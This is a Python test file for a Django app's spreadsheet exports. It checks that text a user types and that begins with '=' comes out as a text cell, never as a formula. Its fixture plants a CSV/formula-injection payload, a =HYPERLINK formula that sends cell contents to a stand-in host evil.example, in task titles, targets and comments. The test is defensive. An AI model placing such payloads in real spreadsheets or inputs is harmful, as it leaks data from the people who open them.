"""No spreadsheet the product writes holds a formula: text someone typed (a body's name, a
task's title, a target, a comment) that starts with "=" arrives as a text cell, in every
.xlsx a member can download (issue 20, item 5).

Two checks: every .xlsx route, fed hostile text everywhere a user can type, answers files
without one formula cell; and no module but congress/exports.py saves a workbook, so a new
export cannot skip the guard."""

import ast
import io
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.files.base import ContentFile
from openpyxl import load_workbook

from congress.models import Resolution, Target, TargetResult
from workflows.models import Comment, Document, DocumentVersion

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
HCM = ZoneInfo("Asia/Ho_Chi_Minh")
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def hostile(world, make_task):
    world.docs.name = HOSTILE
    world.docs.save(update_fields=["name"])
    make_task(title=HOSTILE, status="todo", due_at=datetime(2025, 8, 1, 17, tzinfo=HCM))
    resolution = Resolution.objects.create(
        organization=world.org, code="10-NQ/QU", title=HOSTILE, term="2020-2025"
    )
    target = Target.objects.create(
        resolution=resolution,
        code="=1+1",
        position=0,
        name=HOSTILE,
        unit="=A1",
        target_value=Decimal(100),
        direction="at_least",
    )
    TargetResult.objects.create(target=target, period="year", year=2024, value=Decimal(104))
    document = Document.objects.create(
        congress=world.congress, body=world.docs, kind="other", title=HOSTILE, status="drafting"
    )
    text = "I. Mở đầu\nNội dung"
    version = DocumentVersion(
        document=document,
        number=1,
        round=1,
        original_name="du-thao-1.md",
        file_type="md",
        size=len(text.encode()),
        sha256="0" * 64,
        text=text,
        author=world.docs_head,
    )
    version.file.save(f"test/{document.pk}-1.md", ContentFile(text.encode()), False)
    version.save()
    Comment.objects.create(
        version=version, source=HOSTILE, section=HOSTILE, text=HOSTILE, response=HOSTILE
    )
    return document


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


EXPORTS = {
    "member import template": lambda w, d: (
        f"/congresses/{w.congress.pk}/members/import/template.xlsx"
    ),
    "progress report": lambda w, d: f"/api/v1/congresses/{w.congress.pk}/progress-report.xlsx",
    "targets": lambda w, d: f"/api/v1/organizations/{w.org.pk}/targets.xlsx",
    "comment summary (API)": lambda w, d: f"/api/v1/documents/{d.pk}/comment-summary/xlsx/",
    "comment summary (page)": lambda w, d: f"/documents/{d.pk}/comment-summary.xlsx",
}


@pytest.mark.parametrize("name", EXPORTS)
def test_every_spreadsheet_export_writes_typed_text_as_text(world, api, client, hostile, name):
    path = EXPORTS[name](world, hostile)
    if path.startswith("/api/"):
        response = api(world.docs_head).get(path)
    else:
        client.force_login(world.docs_head)
        response = client.get(path)
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content) if response.streaming else response.content

    assert _formula_cells(content) == []
    assert any(text.startswith("=HYPERLINK") for text in _texts(content)), (
        "the export should hold the hostile text (as text) for this test to mean anything"
    )


def test_only_the_export_helper_saves_a_workbook():
    """`book.save(...)` outside congress/exports.py would skip `xlsx_bytes`'s formula guard."""
    found = []
    for path in [*ROOT.glob("congress/**/*.py"), *ROOT.glob("workflows/**/*.py")]:
        if path.relative_to(ROOT).as_posix() == "congress/exports.py" or "migrations" in path.parts:
            continue
        source = path.read_text()
        if "openpyxl" not in source:
            continue
        for node in ast.walk(ast.parse(source)):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "save"
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == []
